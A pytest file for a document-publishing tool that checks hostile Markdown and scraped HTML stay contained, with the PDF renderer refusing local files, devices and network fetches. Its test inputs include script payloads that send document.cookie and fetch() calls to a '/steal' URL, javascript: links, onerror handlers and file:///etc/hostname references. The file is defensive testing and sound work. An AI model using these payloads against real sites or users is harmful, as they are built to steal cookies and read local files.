"""Untrusted input stays contained: raw HTML in an article is reduced to text, the PDF renderer fetches nothing
outside the article's folder and the theme (no file:// elsewhere, no network, no devices), and the HTML runs
nothing. A real HTTP server on 127.0.0.1 records every request made to it."""

from __future__ import annotations

import http.server
import logging
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import html as lxml_html

from publish.checks import gate as checks
from publish.checks.validators import html as html_checks
from publish.cli import main


class _Recorder(http.server.BaseHTTPRequestHandler):
    requests: list[str]

    def do_GET(self) -> None:
        self.requests.append(self.path)
        body = b"body { background: url(/second-request.png); }"
        self.send_response(200)
        self.send_header("Content-Type", "text/css")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def server() -> Iterator[tuple[str, list[str]]]:
    """A local HTTP server in a thread: its base URL and the list of paths requested from it."""
    requests: list[str] = []
    handler = type("Recorder", (_Recorder,), {"requests": requests})
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    httpd.timeout = 5
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}", requests
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join(timeout=10)


def _hostname() -> str:
    return Path("/etc/hostname").read_text(encoding="utf-8").strip() or socket.gethostname()


def test_hostile_markdown_builds_without_reading_anything(tmp_path: Path, server: tuple[str, list[str]],
                                                          monkeypatch: pytest.MonkeyPatch,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    base, requests = server
    (tmp_path / "hostile.md").write_text(
        "---\ntitle: A Story Scraped From a Hostile Page\n---\n\n"
        "The first paragraph is ordinary news about the harbour.\n\n"
        '<img src="file:///etc/hostname">\n\n'
        f'<style>@import url("{base}/evil.css");</style>\n\n'
        f'<p style="background: url({base}/inline.png)">Styled text survives as text.</p>\n\n'
        '<img src="/dev/urandom" alt="noise">\n\n'
        '<script>document.location = "http://127.0.0.1:9/steal?" + document.cookie</script>\n\n'
        "Inline <script>alert('owned')</script> code is dropped, <b>bold</b> text is kept.\n\n"
        "[A link that would run script](javascript:alert(1)) and the last paragraph.\n",
        encoding="utf-8")
    monkeypatch.chdir(tmp_path)

    started = time.perf_counter()
    assert main(["build", "hostile.md", "--out", "out"]) == 0
    assert time.perf_counter() - started < 20  # nothing hangs on /dev/urandom or a network timeout
    assert requests == [], f"the build fetched {requests} from the test server"
    capsys.readouterr()

    pdf = (tmp_path / "out" / "hostile.pdf").read_bytes()
    assert _hostname().encode() not in pdf
    assert len(pdf) < 200_000  # no megabytes of /dev/urandom inside
    html = (tmp_path / "out" / "hostile.html").read_text(encoding="utf-8")
    page = lxml_html.fromstring(html)
    assert [s.get("type") for s in page.iter("script")] == ["application/ld+json"]
    assert not [f for f in html_checks.inspect(html.encode()).findings if f.severity == "error"]  # no on*=, no
    assert not page.xpath("//a[starts-with(normalize-space(@href), 'javascript')]")  # javascript: links either
    for fmt in ("html", "pdf", "docx", "epub"):
        words = " ".join(checks.output_text(tmp_path / "out" / f"hostile.{fmt}"))
        assert "Styled text survives as text." in words and "bold text is kept" in words, fmt
        for leaked in ("alert('owned')", "document.cookie", "evil.css", "/dev/urandom", "hostname", "inline.png"):
            assert leaked not in words, f"{leaked!r} in hostile.{fmt}"


def test_scraped_text_with_html_is_reduced_to_its_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "scraped.txt").write_text(
        "Harbour Ferry Runs Through the Night\n\n"
        "The harbour authority said on Monday that the night ferry will run <b>every 40 minutes</b> from Pier 7, "
        "the first scheduled crossing after dark since 2009, and riders welcomed the news.\n\n"
        '<img src="file:///etc/hostname" onerror="alert(1)">\n\n'
        "<script>\nfetch('http://127.0.0.1:9/steal')\n</script>\n\n"
        "Tickets cost half the day fare, and bicycles travel free on every crossing, officials said in a statement "
        "released with the timetable.\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    assert main(["inspect", "scraped.txt"]) == 0
    captured = capsys.readouterr()
    assert "<b>" not in captured.out and "fetch(" not in captured.out and "hostname" not in captured.out
    assert "every 40 minutes" in captured.out
    assert "scraped.txt:3: raw HTML reduced to its text" in captured.err
    assert "scraped.txt:5: dropped (raw HTML with no text): '<img" in captured.err
    assert "scraped.txt:7: dropped (raw HTML with no text): '<script>'" in captured.err


def _fetch_page(base: str) -> str:
    return (f'<html lang="en"><head><title>t</title><style>@import url("{base}/evil.css");\n'
            'p { background: url("file:///etc/hostname"); } h1 { background: url("/dev/urandom"); }</style></head>'
            '<body><h1>Headline</h1><p>Text.</p><img src="file:///etc/hostname" alt="x">'
            f'<img src="{base}/pixel.png" alt="y"></body></html>')


@pytest.fixture
def warnings_logged() -> Iterator[list[str]]:
    """Every message publish logs while the test runs (the CLI may have stopped its logger propagating)."""
    messages: list[str] = []
    handler = logging.Handler(logging.DEBUG)
    handler.emit = lambda record: messages.append(record.getMessage())  # type: ignore[method-assign]
    logger = logging.getLogger("publish")
    logger.addHandler(handler)
    try:
        yield messages
    finally:
        logger.removeHandler(handler)


def test_the_pdf_renderer_refuses_files_devices_and_the_network(tmp_path: Path, server: tuple[str, list[str]],
                                                                  warnings_logged: list[str]) -> None:
    """Defence in depth: HTML that asks for everything (as a hostile theme or template could) gets nothing."""
    from publish.backends import pdfengine

    base, requests = server
    fetcher = pdfengine.ContainedFetcher((tmp_path,), allow_remote=False)
    started = time.perf_counter()
    pdf = pdfengine.weasyprint.HTML(string=_fetch_page(base), base_url=tmp_path.as_uri() + "/",
                                      url_fetcher=fetcher).write_pdf()
    assert time.perf_counter() - started < 20
    assert requests == []
    assert _hostname().encode() not in pdf
    assert set(fetcher.refused) == {f"{base}/evil.css", "file:///etc/hostname", "file:///dev/urandom",
                                    f"{base}/pixel.png"}
    reasons = set(warnings_logged)
    assert f"refused to fetch {base}/evil.css: a remote resource (use --allow-remote to fetch it)" in reasons
    assert "refused to fetch file:///etc/hostname: outside the article's folder and the theme" in reasons
    assert "refused to fetch file:///dev/urandom: outside the article's folder and the theme" in reasons


def test_allow_remote_lets_the_renderer_reach_the_server(tmp_path: Path, server: tuple[str, list[str]]) -> None:
    """The control for the tests above: the server is reachable, so its silence there means something."""
    from publish.backends import pdfengine

    base, requests = server
    fetcher = pdfengine.ContainedFetcher((tmp_path,), allow_remote=True)
    pdfengine.weasyprint.HTML(string=_fetch_page(base), base_url=tmp_path.as_uri() + "/",
                                url_fetcher=fetcher).write_pdf()
    assert "/evil.css" in requests


def test_special_files_inside_the_folder_are_refused(tmp_path: Path, warnings_logged: list[str]) -> None:
    """A pipe (reading it would block forever) or a link to a device inside the article's own folder."""
    import os

    from publish.backends import pdfengine

    os.mkfifo(tmp_path / "pipe.css")
    (tmp_path / "noise.css").symlink_to("/dev/urandom")
    page = ('<html><head><link rel="stylesheet" href="pipe.css"><link rel="stylesheet" href="noise.css"></head>'
            "<body><p>Text.</p></body></html>")
    fetcher = pdfengine.ContainedFetcher((tmp_path,), allow_remote=False)
    started = time.perf_counter()
    pdfengine.weasyprint.HTML(string=page, base_url=tmp_path.as_uri() + "/", url_fetcher=fetcher).write_pdf()
    assert time.perf_counter() - started < 20
    reasons = set(warnings_logged)
    assert f"refused to fetch {tmp_path.as_uri()}/pipe.css: not a regular file (a device, pipe or socket)" in reasons
    assert f"refused to fetch {tmp_path.as_uri()}/noise.css: outside the article's folder and the theme" in reasons
